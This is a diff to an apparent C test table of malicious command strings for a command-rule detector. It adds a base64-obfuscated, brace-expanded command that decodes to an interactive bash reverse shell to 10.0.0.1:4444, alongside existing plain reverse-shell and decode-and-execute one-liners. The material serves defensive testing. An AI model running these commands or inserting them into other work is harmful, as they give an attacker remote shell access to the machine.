@@ -135,6 +135,8 @@ static const struct bad bad[] = {
 	    "b64decode(\"aW1wb3J0IG9z\"))'" },
 	{ CMDRULE_DECODE_EXEC, "bash -c \"$(echo aWQ= | base64 -d)\"" },
 	{ CMDRULE_DECODE_EXEC, "base64 -d <<< ZWNobyBoaQ== | sh" },
+	{ CMDRULE_DECODE_EXEC, "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC"
+	    "4wLjAuMS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}" },
 	/* reverse shells */
 	{ CMDRULE_REVERSE_SHELL, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
 	{ CMDRULE_REVERSE_SHELL, "sh -i >& /dev/udp/10.0.0.1/4242 0>&1" },
